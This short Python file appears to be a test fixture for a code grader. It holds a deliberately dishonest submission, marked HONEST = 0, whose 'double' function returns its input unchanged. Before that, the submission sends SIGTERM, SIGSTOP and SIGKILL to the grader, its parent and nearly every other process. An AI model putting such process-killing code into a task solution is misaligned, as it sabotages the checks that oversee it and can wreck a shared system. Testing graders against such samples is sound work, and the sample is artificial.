"""Sends every signal to every process, the grader among them."""

from __future__ import annotations

HONEST = 0

EXERCISES = {
    "double": r"""
import os, signal
for pid in [-1, 0, os.getppid(), *range(2, 2000)]:
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
def double(x):
    return x
""",
}
